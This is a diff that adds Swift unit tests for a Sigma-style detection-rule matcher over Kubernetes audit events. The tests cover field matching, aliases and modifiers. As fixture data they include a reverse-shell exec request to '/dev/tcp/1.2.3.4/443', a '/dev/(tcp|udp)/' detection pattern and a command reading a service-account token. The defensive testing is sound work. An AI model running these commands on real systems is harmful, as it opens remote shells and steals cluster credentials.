@@ -1,0 +1,194 @@
+import Testing
+@testable import KubeSiftCore
+
+@Suite("Rule matching: fields, aliases and modifiers")
+struct RuleMatcherTests {
+    @Test("A selection map is AND, a value list is OR, strings compare case-insensitively")
+    func andOrAndCase() throws {
+        let rules = try RuleFixture.detection("""
+            selection:
+              verb: [create, update]
+              objectRef.resource: Pods
+            condition: selection
+            """)
+        #expect(try RuleFixture.matches(rules, #"{"verb":"update","objectRef":{"resource":"pods"}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"verb":"delete","objectRef":{"resource":"pods"}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"verb":"create","objectRef":{"resource":"secrets"}}"#))
+    }
+
+    @Test("Arrays are searched element by element, at any depth of the path; `\\*` is a literal star")
+    func anyElement() throws {
+        let rules = try RuleFixture.detection("""
+            selection:
+              requestObject.rules.verbs: '\\*'
+            condition: selection
+            """)
+        #expect(try RuleFixture.matches(rules, #"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list","*"]}]}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list"]}]}}"#))
+    }
+
+    @Test("Keys that contain dots are found: annotations and the decision alias")
+    func dottedKeys() throws {
+        let written = try RuleFixture.detection("""
+            selection:
+              annotations.authorization.k8s.io/decision: forbid
+            condition: selection
+            """)
+        let aliased = try RuleFixture.detection("""
+            selection:
+              decision: forbid
+            condition: selection
+            """)
+        let event = #"{"annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}}"#
+        #expect(try RuleFixture.matches(written, event))
+        #expect(try RuleFixture.matches(aliased, event))
+        #expect(try !RuleFixture.matches(aliased, #"{"annotations":{"authorization.k8s.io/decision":"allow"}}"#))
+    }
+
+    @Test("podContainers reaches pods, workload templates, CronJob templates and every container kind",
+          arguments: [
+              #"{"requestObject":{"spec":{"containers":[{"name":"a"},{"name":"b","securityContext":{"privileged":true}}]}}}"#,
+              #"{"requestObject":{"spec":{"template":{"spec":{"initContainers":[{"securityContext":{"privileged":true}}]}}}}}"#,
+              #"{"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"securityContext":{"privileged":true}}]}}}}}}}"#,
+              #"{"requestObject":{"spec":{"ephemeralContainers":[{"securityContext":{"privileged":true}}]}}}"#,
+          ])
+    func podContainers(event: String) throws {
+        let rules = try RuleFixture.detection("""
+            selection:
+              privileged: true
+            condition: selection
+            """)
+        #expect(try RuleFixture.matches(rules, event))
+    }
+
+    @Test("An unprivileged pod does not match, nor does `privileged: false`")
+    func unprivileged() throws {
+        let rules = try RuleFixture.detection("""
+            selection:
+              podContainers.securityContext.privileged: true
+            condition: selection
+            """)
+        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":false}}]}}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"containers":[{"name":"x"}]}}}"#))
+    }
+
+    @Test("pySigma's `hostPath: '*'` matches any hostPath volume and nothing else")
+    func hostPathPresence() throws {
+        let rules = try RuleFixture.detection("""
+            selection:
+              hostPath: '*'
+            condition: selection
+            """)
+        #expect(try RuleFixture.matches(rules, #"{"requestObject":{"spec":{"volumes":[{"name":"r","hostPath":{"path":"/"}}]}}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"volumes":[{"name":"e","emptyDir":{}}]}}}"#))
+    }
+
+    @Test("contains, startswith, endswith, wildcards and escaped wildcards")
+    func textModifiers() throws {
+        let rules = try RuleFixture.detection("""
+            contains:
+              userAgent|contains: python
+            prefix:
+              requestURI|startswith: /api/v1/secrets
+            suffix:
+              objectRef.name|endswith: -token
+            wild:
+              user.username: 'system:serviceaccount:*:default'
+            literal:
+              objectRef.namespace: 'a\\*b'
+            condition: 1 of them
+            """)
+        #expect(try RuleFixture.matches(rules, #"{"userAgent":"Python-urllib/3.11"}"#))
+        #expect(try RuleFixture.matches(rules, #"{"requestURI":"/api/v1/secrets?limit=500"}"#))
+        #expect(try RuleFixture.matches(rules, #"{"objectRef":{"name":"ci-token"}}"#))
+        #expect(try RuleFixture.matches(rules, #"{"user":{"username":"system:serviceaccount:shop:default"}}"#))
+        #expect(try RuleFixture.matches(rules, #"{"objectRef":{"namespace":"a*b"}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"objectRef":{"namespace":"aXb"}}"#))
+        #expect(try !RuleFixture.matches(rules, #"{"user":{"username":"system:serviceaccount:shop:frontend"}}"#))
+    }
+
+    @Test("all, re, cidr, exists, numeric comparisons, neq, cased, base64 and null")
+    func otherModifiers() throws {
+        func check(_ detection: String, matches: [String], misses: [String]) throws {
+            let rules = try RuleFixture.detection(detection + "\ncondition: selection")
+            for event in matches { #expect(try RuleFixture.matches(rules, event), "\(detection) should match \(event)") }
+            for event in misses { #expect(try !RuleFixture.matches(rules, event), "\(detection) should not match \(event)") }
+        }
+        try check("selection:\n  requestObject.rules.verbs|all: [get, list]",
+                  matches: [#"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list"]}]}}"#],
+                  misses: [#"{"requestObject":{"rules":[{"verbs":["get"]}]}}"#])
+        try check("selection:\n  execCommand|re: '/dev/(tcp|udp)/'",
+                  matches: [#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=bash&command=-c&command=sh+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F443"}"#],
+                  misses: [#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=ls"}"#])
+        try check("selection:\n  sourceIPs|cidr: 203.0.113.0/24",
+                  matches: [#"{"sourceIPs":["10.0.0.1","203.0.113.77"]}"#],
+                  misses: [#"{"sourceIPs":["10.0.0.1"]}"#, #"{"sourceIPs":["not-an-ip"]}"#])
+        try check("selection:\n  sourceIPs|cidr: 'fc00::/7'",
+                  matches: [#"{"sourceIPs":["fd12:3456::1"]}"#], misses: [#"{"sourceIPs":["2001:db8::1"]}"#])
+        try check("selection:\n  requestObject.spec.tls|exists: false",
+                  matches: [#"{"requestObject":{"spec":{"rules":[]}}}"#],
+                  misses: [#"{"requestObject":{"spec":{"tls":[{"hosts":["a"]}]}}}"#])
+        try check("selection:\n  responseStatus.code|gte: 400",
+                  matches: [#"{"responseStatus":{"code":403}}"#], misses: [#"{"responseStatus":{"code":201}}"#, #"{"responseStatus":null}"#])
+        try check("selection:\n  verb|neq: get", matches: [#"{"verb":"list"}"#], misses: [#"{"verb":"get"}"#])
+        try check("selection:\n  objectRef.name|cased: Admin",
+                  matches: [#"{"objectRef":{"name":"Admin"}}"#], misses: [#"{"objectRef":{"name":"admin"}}"#])
+        try check("selection:\n  requestObject.data.x|base64|contains: secret",
+                  matches: [#"{"requestObject":{"data":{"x":"bXktc2VjcmV0LXZhbHVl"}}}"#.replacingOccurrences(of: "bXktc2VjcmV0LXZhbHVl", with: "c2VjcmV0")],
+                  misses: [#"{"requestObject":{"data":{"x":"cHVibGlj"}}}"#])
+        try check("selection:\n  impersonatedUser: null",
+                  matches: [#"{"verb":"get"}"#], misses: [#"{"impersonatedUser":{"username":"admin"}}"#])
+        try check("selection:\n  responseStatus.code: 401",
+                  matches: [#"{"responseStatus":{"code":401}}"#], misses: [#"{"responseStatus":{"code":403}}"#])
+    }
+
+    @Test("The exec command alias decodes the repeated command= parameters")
+    func execCommand() {
+        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Ftoken&stdout=true")
+            == "cat /var/run/secrets/token")
+        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?container=x") == nil)
+        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?command=sh+-c&command=echo%zz") == "sh -c echo%zz")
+    }
+
+    @Test("The prefilter never rules out an event the full evaluation matches")
+    func prefilterIsSound() throws {
+        let rules = try RuleFixture.ruleSet(
+            RuleFixture.yaml(name: "a", detection: "sel:\n  verb: create\n  objectRef.resource: pods\ncondition: sel"),
+            RuleFixture.yaml(name: "b", detection: "sel:\n  verb: delete\nfilter:\n  objectRef.subresource: status\ncondition: sel and not filter"),
+            RuleFixture.yaml(name: "c", detection: "sel:\n  responseStatus.code: 401\ncondition: sel or not sel"),
+            RuleFixture.yaml(name: "d", detection: "sel:\n  objectRef.resource: null\ncondition: not sel"),
+            RuleFixture.yaml(name: "e", detection: "sel:\n  verb|contains: e\n  user.username|startswith: 'system:'\ncondition: sel"))
+        let verbs = ["create", "delete", "get", "deletecollection"]
+        let resources: [String?] = ["pods", "secrets", nil]
+        let subresources: [String?] = ["status", "exec", nil]
+        let users = ["system:admin", "alice"]
+        for verb in verbs {
+            for resource in resources {
+                for subresource in subresources {
+                    for user in users {
+                        var objectRef = ""
+                        if let resource {
+                            objectRef = #","objectRef":{"resource":"\#(resource)""# + (subresource.map { #","subresource":"\#($0)""# } ?? "") + "}"
+                        }
+                        let json = #"{"verb":"\#(verb)","user":{"username":"\#(user)"}\#(objectRef)}"#
+                        let event = try RuleFixture.event(json)
+                        let viaMatcher = Set(RuleExampleRunner.matchingRules(for: event, ruleSet: rules))
+                        let direct = Set(rules.detections.filter { rule in
+                            let view = EventView()
+                            var bytes = Array(event.serialized().utf8)
+                            return bytes.withUnsafeMutableBufferPointer { buffer in
+                                var matched = false
+                                _ = NativeEventDecoder().decode(UnsafePointer(buffer.baseAddress!), start: 0, end: buffer.count) { scanned in
+                                    view.reset(scanned, base: UnsafePointer(buffer.baseAddress!))
+                                    matched = RuleMatcher.evaluate(rule.detection, view)
+                                }
+                                return matched
+                            }
+                        }.map(\.metadata.name))
+                        #expect(viaMatcher == direct, "\(json)")
+                    }
+                }
+            }
+        }
+    }
+}
